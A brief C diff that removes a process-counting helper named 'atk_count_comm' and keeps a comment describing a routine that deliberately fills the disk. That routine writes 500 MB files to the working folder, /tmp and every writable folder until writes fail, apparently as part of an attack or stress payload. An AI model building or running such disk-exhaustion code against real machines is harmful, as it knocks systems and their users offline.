@@ -1,18 +1,3 @@
-static int atk_count_comm(const char *comm) {
-    DIR *proc = opendir("/proc");
-    struct dirent *e;
-    int n = 0;
-    while (proc && (e = readdir(proc))) {
-        if (atoi(e->d_name) <= 0) continue;
-        char p[64];
-        snprintf(p, sizeof p, "/proc/%s/comm", e->d_name);
-        char *t = atk_slurp(p, 31, NULL);
-        if (t && !strncmp(t, comm, strlen(comm))) n++;
-        free(t);
-    }
-    if (proc) closedir(proc);
-    return n;
-}
 /* Fills the disk: in each process (at most 3 at a time, machine-wide, and
  * 6 GB in all when it can count), 500 MB files in its working folder, /tmp
  * and every folder it can write, until a write fails; then runs as the stub.
